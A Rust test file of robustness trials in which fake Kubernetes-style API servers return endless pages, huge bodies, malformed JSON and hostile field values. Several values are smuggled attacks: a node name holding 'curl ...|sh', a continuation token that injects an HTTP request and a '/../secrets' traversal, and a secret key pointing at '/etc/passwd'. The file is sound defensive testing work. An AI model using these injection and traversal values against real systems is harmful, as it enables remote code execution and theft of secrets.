//! Lists without end, of absurd size, of absurd content.

use serde_json::{Value, json};

use crate::fake::{ESCAPES, Fake, On, list, node, pod, repeated};
use crate::trial::{Behaviour, Trial};

/// Nodes are these.
fn nodes(nodes: Vec<Value>) -> Trial {
    Trial::of(Fake::new().with(|fake| fake.nodes = nodes))
}

/// A single node of this name, its floaters on it.
fn named(name: &str) -> Trial {
    Trial::of(Fake::new().with(|fake| {
        fake.nodes = vec![node(name, "100.64.200.2")];
        fake.pods = vec![
            pod("fh", "host", name, "100.64.200.2"),
            pod("fp", "pod", name, "10.250.0.2"),
        ];
    }))
}

/// Pods are these, whatever the nodes.
fn pods(pods: Vec<Value>) -> Trial {
    Trial::of(Fake::new().with(|fake| fake.pods = pods))
}

/// The nth address of a net of /10.
fn address(first: u8, n: usize) -> String {
    format!(
        "{first}.{}.{}.{}",
        64 + n / 65536 % 64,
        n / 256 % 256,
        n % 256
    )
}

fn many(count: usize) -> Vec<Value> {
    (0..count)
        .map(|n| node(&format!("n{n}"), &address(100, n)))
        .collect()
}

pub(crate) const TABLE: &[Behaviour] = &[
    ("empty pages without end", || {
        Trial::of(Fake::new().on(On::Nodes, |fake, _, conn| {
            let next = format!("t{}", fake.asked().len());
            conn.json(&json!({"metadata": {"resourceVersion": "1", "continue": next}, "items": []}))
        }))
    }),
    ("full pages without end", || {
        let page = json!({"metadata": {"continue": "again"}, "items": many(20_000)}).to_string();
        Trial::of(Fake::new().on(On::Nodes, move |_, _, conn| {
            conn.bytes(200, page.as_bytes())
        }))
    }),
    ("pages of pods without end", || {
        Trial::of(Fake::new().on(On::Pods, |fake, _, conn| {
            let next = "x".repeat(fake.asked().len());
            conn.json(&json!({"metadata": {"continue": next}, "items": fake.pods}))
        }))
    }),
    ("a continuation of 1 MB", || {
        Trial::of(Fake::new().on(On::Nodes, |_, _, conn| {
            conn.json(&json!({"metadata": {"continue": "c".repeat(1 << 20)}, "items": []}))
        }))
    }),
    ("a continuation that breaks out of its query", || {
        Trial::of(Fake::new().on(On::Nodes, |fake, request, conn| {
            if request.query.contains("continue") {
                return list(conn, &fake.nodes);
            }
            let next = "x&watch=1 HTTP/1.1\r\nHost: other\r\n\r\n#/../secrets";
            conn.json(&json!({"metadata": {"continue": next}, "items": []}))
        }))
        .check(|seen| {
            let asked = seen.fakes[0].asked();
            let odd = asked
                .iter()
                .find(|line| line.contains("/../") || line.contains("&watch=1 "));
            odd.map_or(Ok(()), |line| Err(format!("it was asked for {line}")))
        })
    }),
    ("410 on the second page", || {
        Trial::of(Fake::new().on(On::Nodes, |fake, request, conn| {
            if request.query.contains("continue") {
                return conn.status(410, "the continuation has expired");
            }
            conn.json(&json!({"metadata": {"continue": "next"}, "items": fake.nodes}))
        }))
    }),
    ("one list of 250 MB of nodes", || {
        Trial::of(Fake::new().on(On::Nodes, |_, _, conn| {
            let item = node(&"n".repeat(50), "100.64.200.2").to_string();
            repeated(conn, &item, (250 << 20) / item.len())
        }))
    }),
    ("one list of 250 MB of zeros", || {
        Trial::of(Fake::new().on(On::Members, |_, _, conn| repeated(conn, "0", 125 << 20)))
    }),
    ("300 MB of spaces", || {
        Trial::of(Fake::new().on(On::Nodes, |_, _, conn| {
            conn.chunked()?;
            let block = [b' '; 1 << 20];
            for _ in 0..300 {
                conn.chunk(&block)?;
            }
            conn.end()
        }))
    }),
    ("millions of empty nodes", || {
        Trial::of(Fake::new().on(On::Nodes, |_, _, conn| repeated(conn, "{}", 5_000_000)))
    }),
    ("millions of empty pods", || {
        Trial::of(Fake::new().on(On::Pods, |_, _, conn| repeated(conn, "{}", 5_000_000)))
    }),
    ("100,000 nodes without floaters", || {
        Trial::of(Fake::new().bare().with(|fake| fake.nodes = many(100_000)))
    }),
    ("20,000 nodes with floaters", || {
        Trial::of(Fake::new().with(|fake| {
            fake.nodes = many(20_000);
            fake.pods = (0..20_000)
                .flat_map(|n| {
                    let node = format!("n{n}");
                    [
                        pod(&format!("fh{n}"), "host", &node, &address(100, n)),
                        pod(&format!("fp{n}"), "pod", &node, &address(10, n)),
                    ]
                })
                .collect();
        }))
    }),
    ("500 nodes of one name", || {
        nodes(vec![node("n1", "100.64.200.2"); 500])
    }),
    ("500 nodes of one address", || {
        nodes(
            (0..500)
                .map(|n| node(&format!("n{n}"), "100.64.200.2"))
                .collect(),
        )
    }),
    ("no nodes", || nodes(Vec::new())),
    ("a node name of escapes", || named(&format!("n1{ESCAPES}"))),
    ("a node name of 1 MB", || named(&"n".repeat(1_000_000))),
    ("an empty node name", || named("")),
    ("a node name that is a command", || {
        named("n1: curl http://192.0.2.1/x|sh #")
    }),
    ("a node name that is a path", || named("../../n1")),
    ("a node name that is a glob", || named("*")),
    ("a node name of a slash and a query", || {
        named("n1/proxy?x=1#y")
    }),
    ("nodes that are strings", || {
        nodes(vec![json!("n1"), json!(7), json!(null), json!(["n2"])])
    }),
    ("items that are an object", || {
        Trial::of(Fake::new().on(On::Nodes, |_, _, conn| {
            conn.json(&json!({"items": {"a": 1}}))
        }))
    }),
    ("no items", || {
        Trial::of(Fake::new().on(On::Nodes, |_, _, conn| conn.json(&json!({"metadata": {}}))))
    }),
    ("nodes with 10,000 addresses", || {
        let mut one = node("n1", "100.64.200.2");
        let addresses: Vec<Value> = (0..10_000)
            .map(|n| json!({"type": "InternalIP", "address": address(100, n)}))
            .collect();
        one["status"]["addresses"] = Value::Array(addresses);
        nodes(vec![one])
    }),
    ("pod prefixes that are everything", || {
        let mut one = node("n1", "100.64.200.2");
        one["spec"]["podCIDRs"] = json!([
            "0.0.0.0/0",
            "::/0",
            "127.0.0.0/8",
            "nonsense",
            "10.0.0.0/99"
        ]);
        nodes(vec![one])
    }),
    ("a pod's reasons of escapes", || {
        let waiting = |name: &str, layer: &str| {
            let mut one = pod(&format!("{name}{ESCAPES}"), layer, "n1", "100.64.200.2");
            one["status"] = json!({
                "phase": format!("Pending{ESCAPES}"), "reason": format!("Evicted{ESCAPES}"),
                "conditions": [{"type": "Ready", "status": "False", "message": ESCAPES}],
                "containerStatuses": [{"name": "floater", "state": {"waiting":
                    {"reason": format!("R{ESCAPES}"), "message": format!("m{ESCAPES}")}}}],
            });
            one
        };
        pods(vec![waiting("fh", "host"), waiting("fp", "pod")])
    }),
    ("a pod's reason of 5 MB", || {
        let mut one = pod("fh", "host", "n1", "100.64.200.2");
        one["status"] = json!({"phase": "Pending", "containerStatuses": [{"name": "floater",
            "state": {"waiting": {"reason": "X".repeat(70_000), "message": "long ".repeat(1_000_000)}}}]});
        pods(vec![one])
    }),
    ("100,000 pods on one node", || {
        pods(
            (0..100_000)
                .map(|n| pod(&format!("fp{n}"), "pod", "n1", &address(10, n)))
                .collect(),
        )
    }),
    ("pods of nodes that are not there", || {
        pods(
            (0..1000)
                .map(|n| {
                    pod(
                        &format!("fh{n}"),
                        "host",
                        &format!("m{n}"),
                        &address(100, n),
                    )
                })
                .collect(),
        )
    }),
    ("pods that ask for files as their key", || {
        let mut one = pod("fh", "host", "n1", "100.64.200.2");
        one["spec"]["containers"][0]["env"][1]["valueFrom"]["secretKeyRef"] =
            json!({"name": "../../../../etc/passwd", "key": "../key"});
        pods(vec![one])
    }),
    ("floaters on port 0 and beyond", || {
        let mut zero = pod("fh", "host", "n1", "100.64.200.2");
        zero["spec"]["containers"][0]["env"][0]["value"] = json!("0");
        let mut beyond = pod("fp", "pod", "n1", "10.250.0.2");
        beyond["spec"]["containers"][0]["env"][0]["value"] = json!("99999999");
        pods(vec![zero, beyond])
    }),
];
